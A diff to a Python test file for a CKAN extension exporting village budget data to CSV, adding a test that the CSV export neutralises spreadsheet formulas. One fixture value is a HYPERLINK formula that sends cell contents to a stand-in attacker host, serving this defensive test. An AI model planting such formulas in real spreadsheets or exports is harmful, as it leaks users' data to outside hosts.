@@ -3,7 +3,7 @@ import csv
 import io
 from decimal import Decimal as D
 
-from ckanext.bandaaceh.apbdes import CSV_COLUMNS, CSV_FIELDS, read_budget, to_csv_bytes, write_csv
+from ckanext.bandaaceh.apbdes import CSV_COLUMNS, CSV_FIELDS, budget_rows, read_budget, to_csv_bytes, write_csv
 from ckanext.bandaaceh.apbdes.normalise import format_amount
 
 
@@ -58,3 +58,18 @@ def test_write_csv_many_budgets(fixtures, ref, tmp_path):
     assert write_csv([a, b], out) == 33 + 47
     text = out.read_text(encoding="utf-8")
     assert text.count("kode_wilayah") == 1 and len(text.splitlines()) == 81
+
+
+def test_csv_neutralises_formulas_in_text_but_keeps_the_rows_exact(fixtures, ref):
+    # The rows (what the DataStore gets) keep the text as typed; the downloadable CSV prefixes a
+    # cell that a spreadsheet would evaluate with a single quote. Amounts are not text.
+    b = read_budget(fixtures / "penjabaran.xlsx", reference=ref)
+    leaf = next(ln for ln in b.lines if ln.is_leaf and ln.account == "5.3.5.01")
+    leaf.description = '=HYPERLINK("http://evil.example/?"&A1,"Jalan")'
+    b.gampong = "@Kampung Baru"
+    row = next(r for r in budget_rows(b) if r["kode_rekening"] == "5.3.5.01")
+    assert row["uraian"] == leaf.description and row["gampong"] == "@Kampung Baru"
+    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(b).decode("utf-8"))))
+    road = next(r for r in rows if r["kode_rekening"] == "5.3.5.01")
+    assert road["uraian"] == "'" + leaf.description and road["anggaran"] == "585000000"
+    assert {r["gampong"] for r in rows} == {"'@Kampung Baru"}
